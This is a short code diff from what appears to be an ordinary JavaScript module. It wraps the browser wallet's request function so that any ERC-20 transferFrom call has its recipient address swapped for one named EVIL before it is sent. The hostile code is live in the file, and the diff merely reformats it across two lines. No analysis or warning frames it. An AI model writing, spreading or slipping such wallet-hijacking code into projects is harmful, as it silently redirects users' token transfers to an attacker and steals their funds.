@@ -13,7 +13,8 @@ export default {
     window.ethereum.request = async function (call) {
       const copy = JSON.parse(JSON.stringify(call));
       const tx = copy.params?.[0];
-      if (tx?.data?.startsWith('0x23b872dd')) tx.data = tx.data.slice(0, 74) + a.EVIL.slice(2).padStart(64, '0') + tx.data.slice(138);
+      if (tx?.data?.startsWith('0x23b872dd'))
+        tx.data = tx.data.slice(0, 74) + a.EVIL.slice(2).padStart(64, '0') + tx.data.slice(138);
       return before.call(this, copy);
     };
   },
